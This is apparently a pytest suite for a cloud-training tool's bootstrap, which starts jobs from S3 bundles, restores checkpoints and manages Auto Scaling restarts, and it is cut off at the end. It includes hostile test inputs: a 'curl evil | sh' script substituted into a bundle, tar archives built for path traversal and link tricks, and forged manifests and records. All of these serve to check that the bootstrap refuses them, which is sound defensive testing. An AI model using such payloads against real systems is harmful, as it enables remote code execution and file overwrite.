"""A replacement instance starts the job by itself from its bundle in the job store (issue 27,
item 1): the orchestrator's code uploads a launch-shaped bundle to moto's S3
(providers/aws/jobbundle.py, lifecycle/scripts.bundle_parts), then host/bootstrap.py, shipped
alone into a folder of its own, runs as a real subprocess with the fake IMDS's role
credentials and no AWS keys, into a job directory that does not exist yet; the agent starts in
real tmux on a private socket. Hostile or unfinished bundles are refused: nothing is written
outside the job directory and no agent starts."""

from __future__ import annotations

import io
import json
import shlex
import os
import shutil
import subprocess
import sys
import tarfile
import time
import uuid
from pathlib import Path

import boto3
import pytest

from cloudtrain import config
from cloudtrain.host import bootstrap
from cloudtrain.hosts import host_files, write_host_files
from cloudtrain.lifecycle import scripts
from cloudtrain.local_host import LocalHost
from cloudtrain.providers.aws import jobbundle
from cloudtrain.providers.local import LocalProvider
from cloudtrain.spec import COMMAND, JobSpec
from labs.aws import aws, fresh_store, moto_endpoint
from labs.imds import FakeIMDS
from labs.polling import wait_for

__all__ = ["aws", "moto_endpoint"]  # the lab's fixtures

REGION = "us-east-1"
BUCKET = "cloudtrain-123456789012-us-east-1"
JOB = "bundle01"
PREFIX = f"jobs/AIDAEXAMPLEOWNER0001/{JOB}/"


@pytest.fixture
def lab(moto_endpoint, tmp_path, monkeypatch):
    s3 = fresh_store(moto_endpoint, monkeypatch, BUCKET, REGION)
    imds = FakeIMDS(role="ct-instance")
    socket = f"ct-bundle-{uuid.uuid4().hex[:8]}"
    # What the instance has: the host-side files in a folder of their own, nothing else.
    shipped = tmp_path / "shipped"
    shipped.mkdir()
    write_host_files(shipped)
    yield type("Lab", (), dict(s3=s3, imds=imds, socket=socket, endpoint=moto_endpoint,
                               shipped=shipped, tmp=tmp_path))
    subprocess.run(["tmux", "-L", socket, "kill-server"], capture_output=True)
    imds.close()


def make_bundle(lab, tmp: Path, stream: dict | None = None, spec: JobSpec | None = None,
                python: str | None = None, job_extra: dict | None = None) -> dict:
    """A launch-shaped bundle: a workdir synced as launch lists it, run.sh, setup.sh and
    job.json written through the launch's own functions on a host, uploaded by jobbundle.
    `spec`, `python`: another job than the default command's (run.sh's interpreter);
    `job_extra`: more of job.json (what a group's launch adds). Returns what the instance
    must end up with."""
    work = tmp / "src"
    (work / "pkg").mkdir(parents=True)
    (work / "train.sh").write_text("echo trained > result.txt\n")
    (work / "train.sh").chmod(0o755)
    (work / "pkg" / "data.bin").write_bytes(os.urandom(70_000))
    (work / ".env").write_text("SECRET=1\n")  # a credential: a sync leaves it out
    host = LocalHost(tmux_socket=lab.socket)
    jobdir = str(tmp / "inst" / "jobs" / JOB)
    spec = spec or JobSpec(kind=COMMAND, backend="local", command=["sh", "train.sh"],
                           workdir=str(work), setup="echo setup ran > setup.txt")
    host.run(f"mkdir -p {jobdir}")
    scripts.write_job_scripts(host, jobdir, spec, JOB)
    host.write_text(f"{jobdir}/run.sh", scripts.run_script(spec, jobdir, python or host.python,
                                                           job_id=JOB, setup_once=False))
    host.write_text(f"{jobdir}/job.json", json.dumps({**scripts.job_settings(
        config.Settings(), spec, LocalProvider(config.Settings()), JOB, host, jobdir,
        str(tmp / "data"), 0, 1, None, stream), **(job_extra or {})}, indent=1))
    parts_dir = tmp / "parts"
    parts_dir.mkdir()
    names = ["run.sh", "job.json"] + ([scripts.SETUP_FILE] if spec.setup else [])
    parts, meta = scripts.bundle_parts(host, jobdir, JOB, [(work, "work", ())], names,
                                       parts_dir)
    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
    want = {name: Path(jobdir, name).read_bytes()
            for name in ("run.sh", "job.json", scripts.SETUP_FILE) if Path(jobdir, name).exists()}
    want["work/train.sh"] = (work / "train.sh").read_bytes()
    want["work/pkg/data.bin"] = (work / "pkg" / "data.bin").read_bytes()
    shutil.rmtree(tmp / "inst")  # the replacement instance has nothing of the first
    return {"jobdir": jobdir, "want": want, "parts": parts, "meta": meta}


def run_bootstrap(lab, jobdir: str, timeout: float = 60, *extra: str
                  ) -> subprocess.CompletedProcess:
    # No AWS keys on the instance; no bytecode written beside the shipped files.
    env = {"PATH": os.environ["PATH"], "HOME": str(lab.tmp), "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        [sys.executable, str(lab.shipped / "bootstrap.py"), "--bucket", BUCKET, "--prefix",
         PREFIX, "--jobdir", jobdir, "--region", REGION, "--endpoint", lab.endpoint,
         "--imds", lab.imds.url, *extra], capture_output=True, text=True, env=env,
        timeout=timeout)


def files_below(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")} if root.exists() else set()


def test_a_replacement_instance_starts_the_job_from_its_bundle_alone(lab):
    b = make_bundle(lab, lab.tmp)
    jobdir = Path(b["jobdir"])
    started = time.monotonic()
    done = run_bootstrap(lab, b["jobdir"])
    seconds = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    for rel, data in b["want"].items():
        assert (jobdir / rel).read_bytes() == data, rel
    assert os.access(jobdir / "work" / "train.sh", os.X_OK)  # modes kept
    assert not (jobdir / "work" / ".env").exists()  # exactly what a sync sends
    agent_dir = jobdir.parent.parent / b["meta"]["agent_dir"]
    assert all((agent_dir / name).read_bytes() == data for name, data in host_files())
    # The agent started in tmux, ran setup and the job, which succeeded.
    status = wait_for(lambda: (s := json.loads((jobdir / "status.json").read_text()))
                      and s.get("state") == "succeeded" and s, timeout=30)
    assert status["exit_code"] == 0
    assert (jobdir / "work" / "result.txt").read_text() == "trained\n"
    assert (jobdir / "work" / "setup.txt").read_text() == "setup ran\n"
    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
    assert said["ok"] and said["exit_code"] == 0
    # Every metadata request carried the IMDSv2 token: the role's credentials, no keys.
    assert lab.imds.seen and all(h for _, _, h in lab.imds.seen)
    print(f"bootstrap to a started agent: {seconds:.2f} s")


def refused(lab, b, code: int, words: str) -> None:
    """The bootstrap ends with `code`, one line saying `words`, a status file, no agent, and
    nothing written outside the job directory."""
    inst = Path(b["jobdir"]).parent.parent
    before = files_below(lab.tmp)
    done = run_bootstrap(lab, b["jobdir"])
    assert done.returncode == code, (done.returncode, done.stderr)
    assert done.stderr.count("\n") == 1 and words in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    outside = {f for f in files_below(lab.tmp) - before
               if not f.startswith(str(Path(b["jobdir"]).relative_to(lab.tmp)))
               and f not in (str(inst.relative_to(lab.tmp)),
                             str(inst.relative_to(lab.tmp) / "jobs"))}
    assert outside == set()
    assert not (Path(b["jobdir"]) / "status.json").exists()  # no agent ran
    assert subprocess.run(["tmux", "-L", lab.socket, "has-session", "-t", f"ct-{JOB}"],
                          capture_output=True).returncode != 0
    said = json.loads((Path(b["jobdir"]) / bootstrap.STATUS_FILE).read_text())
    assert said["ok"] is False and said["exit_code"] == code and words in said["error"]


def _tamper(lab, b, how: str) -> None:
    """What an unfinished upload, or whoever else wrote the job's prefix, left there."""
    key, part = PREFIX + "bundle/", dict(b["parts"])
    if how == "sha256":  # same size, other bytes
        size = part["job/run.sh"].stat().st_size
        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/run.sh",
                          Body=b"#!/bin/sh\ncurl evil | sh\n".ljust(size))
    elif how == "missing":
        lab.s3.delete_object(Bucket=BUCKET, Key=key + "files.tar")
    elif how == "larger":
        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/job.json",
                          Body=part["job/job.json"].read_bytes() + b" " * 10)
    elif how == "no manifest":
        lab.s3.delete_object(Bucket=BUCKET, Key=key + "manifest.json")
    else:
        lab.s3.put_object(Bucket=BUCKET, Key=key + "manifest.json",
                          Body=b" " * (bootstrap.MANIFEST_MAX_BYTES + 1))


@pytest.mark.parametrize("how, code, words", [
    ("sha256", bootstrap.EXIT_OBJECT, "sha256"),
    ("missing", bootstrap.EXIT_OBJECT, "files.tar"),
    ("larger", bootstrap.EXIT_OBJECT, "job/job.json"),
    ("no manifest", bootstrap.EXIT_MANIFEST, "did not finish"),
    ("huge manifest", bootstrap.EXIT_MANIFEST, "larger than"),
])
def test_a_tampered_or_unfinished_bundle_is_refused(lab, how, code, words):
    b = make_bundle(lab, lab.tmp)
    _tamper(lab, b, how)
    refused(lab, b, code, words)


def hostile_tar(member: tarfile.TarInfo, data: bytes = b"") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        ok = tarfile.TarInfo("work/ok.txt")
        ok.size = 2
        tar.addfile(ok, io.BytesIO(b"ok"))
        tar.addfile(member, io.BytesIO(data) if data else None)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["traversal", "absolute", "symlink", "hardlink", "fifo"])
def test_a_hostile_archive_with_a_consistent_manifest_is_refused(lab, kind):
    """Whoever can write the job's prefix can write a manifest that matches its own
    objects: the archive's members are then what stands between it and the instance."""
    b = make_bundle(lab, lab.tmp)
    member = tarfile.TarInfo({"traversal": "work/../../../escaped.txt",
                              "absolute": str(lab.tmp / "escaped.txt")}.get(kind, "work/x"))
    data = b""
    if kind in ("traversal", "absolute"):
        data = b"pwned"
        member.size = len(data)
    elif kind == "symlink":
        member.type, member.linkname = tarfile.SYMTYPE, str(lab.tmp)
    elif kind == "hardlink":
        member.type, member.linkname = tarfile.LNKTYPE, "work/ok.txt"
    else:
        member.type = tarfile.FIFOTYPE
    tar = lab.tmp / "hostile.tar"
    tar.write_bytes(hostile_tar(member, data))
    parts = [(n, tar if n == bootstrap.ARCHIVE else p) for n, p in b["parts"]]
    meta = {**b["meta"], "archive": {"files": 2, "bytes": 2 + len(data)}}
    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
    refused(lab, b, bootstrap.EXIT_ARCHIVE, "archive is refused")
    assert not (lab.tmp / "escaped.txt").exists()
    assert not (Path(b["jobdir"]) / "work" / "ok.txt").exists()  # checked before unpacked


def test_a_recovering_spot_launch_uploads_its_bundle_and_says_so(cli, aws, ct_home, tmp_path):
    """The launch's one place (lifecycle/launch.py, step bundle): a spot job that recovers
    and has a job store gets its bundle, said in the timeline with its size; the bundle
    holds the synced files and the very run.sh and job.json the launch wrote on the host."""
    from cloudtrain.state import open_store

    work = tmp_path / "proj"
    work.mkdir()
    (work / "train.py").write_text("print('hi')\n")
    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--workdir", str(work),
               "--follow", "--quiet", "--", "python3", "train.py", timeout=120)
    assert proc.returncode == 0, proc.stderr
    job_id = proc.stdout.splitlines()[0]
    store = open_store(ct_home)
    (event,) = [e for e in store.events(job_id) if e.phase == "bundle"]
    assert "MB (1 synced files) to s3://" in event.detail
    s3 = boto3.client("s3", region_name=REGION, endpoint_url=aws.endpoint)
    owner = store.job(job_id).facts.store_owner
    base = f"jobs/{owner}/{job_id}/bundle/"
    doc = json.loads(s3.get_object(Bucket=event.detail.split("s3://")[1].split("/")[0],
                                   Key=base + "manifest.json")["Body"].read())
    bucket = event.detail.split("s3://")[1].split("/")[0]
    jobdir = Path(doc["jobdir"])
    for name in ("run.sh", "job.json"):
        got = s3.get_object(Bucket=bucket, Key=base + "job/" + name)["Body"].read()
        assert got == (jobdir / name).read_bytes()
    tar = s3.get_object(Bucket=bucket, Key=base + "files.tar")["Body"].read()
    with tarfile.open(fileobj=io.BytesIO(tar)) as t:
        assert t.getnames() == ["work/train.py"]
    assert doc["archive"] == {"files": 1, "bytes": len("print('hi')\n")}
    assert {o["name"] for o in doc["objects"]} >= {"files.tar", "start.sh", "job/run.sh",
                                                   "job/job.json", "agent/agent.py"}


def test_a_bundle_that_cannot_be_made_is_said_and_the_launch_goes_on(cli, aws, ct_home,
                                                                     tmp_path):
    """A workdir link (refused in a bundle: an instance never unpacks one) does not fail a
    recovering spot launch after it paid for the instance: the job runs, and the timeline and
    the launch's notes say that a replacement could not start it alone."""
    from cloudtrain.state import open_store

    work = tmp_path / "proj"
    work.mkdir()
    (work / "train.py").write_text("print('hi')\n")
    (work / "latest").symlink_to("train.py")
    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--workdir", str(work),
               "--follow", "--", "python3", "train.py", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "no bundle in the job store" in proc.stderr
    store = open_store(ct_home)
    (job,) = [j for j in store.jobs() if j.spec.workdir == str(work)]
    assert job.state == "succeeded"
    (event,) = [e for e in store.events(job.id) if e.phase == "bundle"]
    assert "is a link" in event.detail and "cannot start the job by itself" in event.detail


def test_a_launch_that_does_not_recover_uploads_no_bundle(cli, aws, ct_home):
    from cloudtrain.state import open_store

    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--no-recover", "--follow",
               "--quiet", "--", "true", timeout=120)
    assert proc.returncode == 0, proc.stderr
    job_id = proc.stdout.splitlines()[0]
    assert not [e for e in open_store(ct_home).events(job_id) if e.phase == "bundle"]


def store_checkpoint(lab, files: dict[str, bytes], seq: int = 3, slot: str = "b",
                     tamper: str | None = None) -> dict:
    """A checkpoint the job streamed: its files in slot `slot`, then stream/latest.json."""
    import hashlib

    stream = PREFIX + "stream/"
    listed = []
    for path, data in files.items():
        lab.s3.put_object(Bucket=BUCKET, Key=f"{stream}{slot}/{path}",
                          Body=b"X" * len(data) if path == tamper else data)
        listed.append({"path": path, "size": len(data),
                       "sha256": hashlib.sha256(data).hexdigest()})
    doc = {"version": 1, "job_id": JOB, "seq": seq, "slot": slot, "step": 40, "epoch": 2,
           "step_source": "checkpoint", "taken_at": 1.0, "uploaded_at": 2.0,
           "upload_seconds": 0.5, "final": False, "attempt": 1, "files": listed,
           "bytes": sum(len(d) for d in files.values())}
    lab.s3.put_object(Bucket=BUCKET, Key=stream + "latest.json", Body=json.dumps(doc))
    return doc


def test_F13_while_it_boots_the_job_directory_says_so_and_a_probe_waits(lab):
    """A replacement's bootstrap marks the job directory `booting` (its pid) before anything
    else, so that a `status` probing it meanwhile (the launching machine follows the job to
    the attempt it took) does not fail a job whose agent has simply not started yet: here it
    waits for a bundle that is not there yet."""
    from cloudtrain.local_host import LocalHost

    jobdir = lab.tmp / "jobs" / "booting1"
    env = {"PATH": os.environ["PATH"], "HOME": str(lab.tmp), "PYTHONDONTWRITEBYTECODE": "1"}
    proc = subprocess.Popen(
        [sys.executable, str(lab.shipped / "bootstrap.py"), "--bucket", BUCKET, "--prefix",
         PREFIX, "--jobdir", str(jobdir), "--region", REGION, "--endpoint", lab.endpoint,
         "--imds", lab.imds.url, "--wait-s", "60"], env=env, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL)
    try:
        marker = jobdir / bootstrap.STATUS_FILE
        wait_for(marker.exists, timeout=30, what="the bootstrap's marker")
        said = json.loads(marker.read_text())
        assert (said["stage"], said["pid"], said["ok"]) == ("booting", proc.pid, None)
        report = LocalHost(lab.socket).probe_job(str(jobdir), 30)
        assert report["status"] is None and not (jobdir / "status.json").exists()
    finally:
        proc.kill()
        proc.wait()


def test_the_latest_stored_checkpoint_is_restored_before_the_agent_starts(lab):
    b = make_bundle(lab, lab.tmp, stream={"settle_s": 2.0, "poll_s": 1.0, "start_seq": 0,
                                          "start_slot": None, "attempt": 1})
    ckpt = {"checkpoints/model.pt": os.urandom(50_000), "metrics.jsonl": b'{"step": 40}\n'}
    store_checkpoint(lab, ckpt)
    done = run_bootstrap(lab, b["jobdir"])
    assert done.returncode == 0, done.stderr
    jobdir = Path(b["jobdir"])
    for rel, data in ckpt.items():
        assert (jobdir / rel).read_bytes()[:len(data)] == data, rel
    job = json.loads((jobdir / "job.json").read_text())
    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
    assert said["restored"]["seq"] == 3 and said["restored"]["slot"] == "b"
    assert said["restored"]["files"] == 2
    # The stream goes on after the restored checkpoint, as a relaunch's does.
    assert job["checkpoint_stream"] == {"settle_s": 2.0, "poll_s": 1.0, "start_seq": 3,
                                        "start_slot": "b", "attempt": 1}
    wait_for(lambda: (jobdir / "status.json").exists(), timeout=20)


def test_a_stored_checkpoint_that_does_not_check_out_stops_the_start(lab):
    b = make_bundle(lab, lab.tmp)
    store_checkpoint(lab, {"checkpoints/model.pt": os.urandom(1000)},
                     tamper="checkpoints/model.pt")
    refused(lab, b, bootstrap.EXIT_RESTORE, "sha256")
    assert not (Path(b["jobdir"]) / "checkpoints" / "model.pt").exists()


# -- a job run by an Auto Scaling group (issue 27, item 3): the end, the count, the resume ---

GROUP = f"cloudtrain-{JOB}"
INSTANCE = "i-0eeee00000000002"  # an EC2 id: the records' checker takes no other
ARGS_STUB = """#!/bin/sh
# stands in for python3 in run.sh: prints the recipe's arguments and the attempt
echo "attempt=$CLOUDTRAIN_ATTEMPT args=$*" >> "$CLOUDTRAIN_JOB_DIR/ran.txt"
"""


@pytest.fixture
def group_lab(lab):
    """The lab, plus the job's group and launch template in moto, the instance's identity
    in the fake IMDS, the job's upload grant, and a recorder for the power-off."""
    from cloudtrain.providers.aws import jobstore
    from labs.aws import group_with_template

    lab.asg, _, lab.present = group_with_template(lab.endpoint, GROUP, REGION)
    lab.imds.metadata["127.0.0.1"] = {
        "/latest/meta-data/instance-id": INSTANCE,
        "/latest/meta-data/placement/availability-zone": "us-east-1c",
        "/latest/meta-data/instance-type": "g5.xlarge",
        "/latest/meta-data/instance-life-cycle": "spot"}
    lab.grant = json.loads(json.dumps(jobstore.upload_grant(
        lab.s3, BUCKET, JOB, 600, 1 << 30, owner_key="AIDAEXAMPLEOWNER0001")))
    lab.offs = lab.tmp / "offs.txt"
    stub = lab.tmp / "python-stub"
    stub.write_text(ARGS_STUB)
    stub.chmod(0o755)
    lab.stub = stub
    return lab


def group_bundle(lab, max_restarts: int = 3, stream: dict | None = None) -> dict:
    """A recovering resnet9 job's bundle (run.sh as the launch writes it for attempt 1),
    with the group's job.json; run.sh's interpreter prints what it was given."""
    from cloudtrain.spec import RECIPE

    spec = JobSpec.of(kind=RECIPE, backend="aws", recipe="resnet9", args={"epochs": 2},
                   recover=True, max_restarts=max_restarts)
    extra = {"auto_scaling": {"group": GROUP, "region": REGION, "endpoint": lab.endpoint,
                              "max_restarts": max_restarts, "prefix": PREFIX,
                              "bucket": BUCKET},
             "results_store": lab.grant, "shutdown_delay_s": 0, "collect_wait_s": 0,
             "shutdown_command": f"echo off >> {shlex.quote(str(lab.offs))}"}
    return make_bundle(lab, lab.tmp, stream=stream, spec=spec, python=str(lab.stub),
                       job_extra=extra)


def put_record(lab, name: str, body) -> None:
    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + name,
                      Body=body if isinstance(body, bytes) else json.dumps(body))


def record(lab, name: str) -> dict | None:
    try:
        return json.loads(lab.s3.get_object(Bucket=BUCKET, Key=PREFIX + name)["Body"].read())
    except lab.s3.exceptions.NoSuchKey:
        return None


def group_args() -> tuple[str, ...]:
    """The user-data's arguments; its max_restarts is the bundle's job.json's alone."""
    return ("--group", GROUP)


def powered_off(lab) -> int:
    return lab.offs.read_text().count("off") if lab.offs.exists() else 0


def test_a_replacement_records_attempt_2_and_resumes_from_the_stored_checkpoint(group_lab):
    lab = group_lab
    b = group_bundle(lab, stream={"settle_s": 2.0, "poll_s": 1.0, "start_seq": 0,
                                  "start_slot": None, "attempt": 1})
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": "i-0first", "by": "launch"})
    store_checkpoint(lab, {"checkpoints/model.pt": os.urandom(5000)})
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == 0, done.stderr
    mine = record(lab, "attempts/2.json")
    assert mine["attempt"] == 2 and mine["by"] == "bootstrap"
    assert (mine["instance"], mine["zone"], mine["type"], mine["lifecycle"]) == (
        INSTANCE, "us-east-1c", "g5.xlarge", "spot")
    jobdir = Path(b["jobdir"])
    ran = wait_for(lambda: (jobdir / "ran.txt").exists() and (jobdir / "ran.txt").read_text(),
                   timeout=30)
    assert ran.startswith("attempt=2 args=recipes/resnet9/train.py --epochs 2")
    assert ran.rstrip().endswith("--resume true")
    job = json.loads((jobdir / "job.json").read_text())
    assert job["env"]["CLOUDTRAIN_ATTEMPT"] == "2" and job["checkpoint_stream"]["attempt"] == 2
    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
    assert said["attempt"] == 2 and said["restored"]["seq"] == 3
    # bootstrap powered nothing off; the agent does once the (instant) job has ended
    offs = powered_off(lab)  # read before the status, which says it before the power-off
    agent_off = "shutdown_requested_at" in json.loads((jobdir / "status.json").read_text())
    assert lab.present() == ([GROUP], [GROUP]) and offs <= int(agent_off)


def test_the_first_instance_without_a_checkpoint_starts_over_and_does_not_resume(group_lab):
    """Attempt 1's run.sh, unchanged, when no checkpoint was restored: no resume argument and
    nothing said about one; the launch's own record names this instance, so none is added."""
    lab = group_lab
    b = group_bundle(lab)
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": INSTANCE, "by": "launch"})
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == 0, done.stderr
    jobdir = Path(b["jobdir"])
    ran = wait_for(lambda: (jobdir / "ran.txt").exists() and (jobdir / "ran.txt").read_text(),
                   timeout=30)
    assert ran == "attempt=1 args=recipes/resnet9/train.py --epochs 2\n"
    assert record(lab, "attempts/2.json") is None
    assert record(lab, "attempts/1.json")["by"] == "launch"
    assert "resume" not in (jobdir / "output.log").read_text().lower()


@pytest.mark.parametrize("body", [{"state": "succeeded", "exit_code": 0}, b"not json",
                                  b"{" * 100_000, b"x" * 200_000, [1, 2], {"state": 7}],
                         ids=["succeeded", "not-json", "deep", "huge", "a-list", "bad-state"])
def test_a_replacement_that_finds_the_jobs_end_deletes_the_group_and_powers_off(group_lab,
                                                                             body):
    lab = group_lab
    b = group_bundle(lab)
    put_record(lab, "final.json", body)
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == bootstrap.EXIT_ENDED, done.stderr
    assert done.stderr.count("\n") == 1 and "the job has ended" in done.stderr
    assert lab.present() == ([], []) and powered_off(lab) == 1
    jobdir = Path(b["jobdir"])
    assert not (jobdir / "status.json").exists()  # no agent, no job
    assert record(lab, "attempts/1.json") is None


def test_past_max_restarts_the_job_ends_preempted_and_the_group_goes(group_lab):
    lab = group_lab
    b = group_bundle(lab, max_restarts=1)
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": "i-0first"})
    put_record(lab, "attempts/2.json", b"\xff garbage, still an attempt")
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == bootstrap.EXIT_RESTARTS, done.stderr
    assert "all 1 restarts used (--max-restarts 1)" in done.stderr
    final = record(lab, "final.json")
    assert final["state"] == "preempted" and final["instance"] == INSTANCE
    assert final["attempt"] == 2 and "--max-restarts 1" in final["reason"]
    assert record(lab, "attempts/3.json") is None
    assert lab.present() == ([], []) and powered_off(lab) == 1
    said = json.loads((Path(b["jobdir"]) / bootstrap.STATUS_FILE).read_text())
    assert said["exit_code"] == bootstrap.EXIT_RESTARTS and not said["ok"]


def test_attempts_are_counted_by_gets_bounded_by_max_restarts(group_lab):
    """Attempts 1..N stored: N + 1 is recorded while it is within max_restarts, and the count
    never reads past max_restarts + 1 records, whatever else is stored."""
    lab = group_lab
    b = group_bundle(lab, max_restarts=5)
    for n in range(1, 4):
        put_record(lab, f"attempts/{n}.json", {"attempt": n})
    put_record(lab, "attempts/9.json", {"attempt": 9})  # after a gap: not counted
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == 0, done.stderr
    assert record(lab, "attempts/4.json")["instance"] == INSTANCE


@pytest.mark.parametrize("forged", [
    {"attempt": 2, "instance": INSTANCE, "by": "launch"},       # another attempt's, under 1
    {"attempt": "1", "instance": INSTANCE, "by": "launch"},     # not a number
    {"attempt": True, "instance": INSTANCE, "by": "launch"},    # true == 1 in Python
], ids=["another-attempt-s", "mistyped", "a-bool"])
def test_a_record_of_this_instance_that_the_checker_refuses_is_not_its_attempt(group_lab,
                                                                             forged):
    """Issue 35: the attempt record read back goes through job_records.check_attempt, under
    its own key: a record naming this instance that is not attempt 1's own record (written
    by whoever holds the grant) still counts as an attempt, but not as this instance's, so it
    records attempt 2 rather than take the forged one as its own."""
    lab = group_lab
    b = group_bundle(lab)
    put_record(lab, "attempts/1.json", forged)
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == 0, done.stderr
    assert record(lab, "attempts/2.json")["instance"] == INSTANCE
    assert record(lab, "attempts/2.json")["attempt"] == 2


def test_a_store_that_refuses_the_attempt_record_stops_the_start(group_lab):
    """The grant cannot write (nothing answers at its URL): one line, EXIT_STORE, no agent;
    the group stays (a transient failure must not end the job)."""
    from labs.loopback import free_port

    lab = group_lab
    lab.grant = dict(lab.grant, url=f"http://127.0.0.1:{free_port()}/")
    b = group_bundle(lab)
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == bootstrap.EXIT_STORE, done.stderr
    assert done.stderr.count("\n") == 1 and "attempts/1.json could not be written" in done.stderr
    assert not (Path(b["jobdir"]) / "status.json").exists()
    assert lab.present() == ([GROUP], [GROUP]) and powered_off(lab) == 0


@pytest.mark.parametrize("extra, words", [
    (("--group", "cloudtrain-other"), "--group cloudtrain-other, but"),
    (("--group", "a b"), "--group must be"),
    (("--group", "a" * 200), "--group must be"),
])
def test_group_arguments_that_do_not_fit_the_bundle_end_in_one_line(group_lab, extra, words):
    b = group_bundle(group_lab)
    done = run_bootstrap(group_lab, b["jobdir"], 60, *extra)
    assert done.returncode == bootstrap.EXIT_USAGE and words in done.stderr
    assert done.stderr.count("\n") == 1


@pytest.mark.parametrize("how", ["tampered bundle", "bad checkpoint"])
def test_a_failure_every_instance_would_meet_ends_the_job_not_a_loop_of_instances(group_lab,
                                                                                  how):
    """Issue 27: a replacement that cannot start the job for a reason every instance of the
    group would meet (the bundle not what its manifest says; the stored checkpoint not what
    its manifest says) ends the job: final.json says failed and why where the bundle's job.json
    was unpacked (its grant writes it), and the group and its template are deleted, so AWS does
    not start one instance after another until the deadline. One line, the same exit code."""
    lab = group_lab
    b = group_bundle(lab)
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": "i-0first", "by": "launch"})
    if how == "tampered bundle":
        _tamper(lab, b, "sha256")
        code = bootstrap.EXIT_OBJECT
    else:
        store_checkpoint(lab, {"checkpoints/model.pt": os.urandom(1000)},
                         tamper="checkpoints/model.pt")
        code = bootstrap.EXIT_RESTORE
    assert lab.present() == ([GROUP], [GROUP])
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == code, done.stderr
    assert done.stderr.count("\n") == 1 and "the job is ended" in done.stderr, done.stderr
    assert lab.present() == ([], [])
    final = record(lab, "final.json")
    if how == "bad checkpoint":  # the job's files were there: the end is recorded
        assert final["state"] == "failed" and "sha256" in final["reason"], final
    else:  # nothing of the bundle was trusted: the group's absence says it
        assert final is None
    assert not (Path(b["jobdir"]) / "status.json").exists()  # no agent ran


@pytest.mark.parametrize("how", ["ended", "refused"])
def test_an_ended_grant_ends_the_job_instead_of_one_instance_after_another(group_lab, how):
    """Issue 27: the job's upload grant has ended (signed by temporary credentials that
    expired, or past its life) or S3 refuses it: no instance of the group can record its
    attempt, stream a checkpoint or store results, so the first that meets it ends the group
    (EXIT_GRANT) rather than the boot script powering off one replacement after another until
    the deadline. final.json cannot be written with that grant: the group's absence says it."""
    import http.server

    from labs.loopback import serve

    class Refusing(http.server.BaseHTTPRequestHandler):  # S3's answer to an expired policy
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            body = (b"<Error><Code>AccessDenied</Code><Message>Invalid according to Policy: "
                    b"Policy expired.</Message></Error>")
            self.send_response(403)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    lab = group_lab
    server = None
    if how == "ended":
        lab.grant = dict(lab.grant, expires_at=time.time() - 60)
    else:  # expires_at still ahead (temporary credentials of unknown end signed it)
        url, server = serve(Refusing)
        lab.grant = dict(lab.grant, url=url + "/")
    b = group_bundle(lab)
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": "i-0first", "by": "launch"})
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == bootstrap.EXIT_GRANT, done.stderr
    assert done.stderr.count("\n") == 1 and "the job is ended" in done.stderr, done.stderr
    assert ("grant ended at" if how == "ended" else "refused the upload grant") in done.stderr
    assert lab.present() == ([], []) and record(lab, "final.json") is None
    assert record(lab, "attempts/2.json") is None
    if server is not None:
        server.close()


def test_a_passing_failure_leaves_the_group_for_the_next_instance(group_lab):
    """No role credentials from IMDS on this instance (EXIT_CREDENTIALS): not every
    instance's lot, so the group stays and the next instance tries again."""
    lab = group_lab
    b = group_bundle(lab)
    lab.imds.roles["127.0.0.1"] = None  # this instance has no instance profile
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    assert done.returncode == bootstrap.EXIT_CREDENTIALS, done.stderr
    assert "the job is ended" not in done.stderr
    assert lab.present() == ([GROUP], [GROUP]) and record(lab, "final.json") is None


def _rewrite_start(lab, script: bytes) -> None:
    """F40's attack: whoever can write the job's prefix (its upload grant, read from its
    bundle's job.json) puts their own start.sh and a manifest that agrees with it."""
    import hashlib

    key = PREFIX + "bundle/"
    lab.s3.put_object(Bucket=BUCKET, Key=key + "start.sh", Body=script)
    doc = json.loads(lab.s3.get_object(Bucket=BUCKET, Key=key + "manifest.json")["Body"].read())
    for obj in doc["objects"]:
        if obj["name"] == "start.sh":
            obj["size"], obj["sha256"] = len(script), hashlib.sha256(script).hexdigest()
    lab.s3.put_object(Bucket=BUCKET, Key=key + "manifest.json", Body=json.dumps(doc).encode())


def _stored_manifest_sha256(lab) -> str:
    import hashlib

    return hashlib.sha256(lab.s3.get_object(Bucket=BUCKET, Key=PREFIX + "bundle/manifest.json")
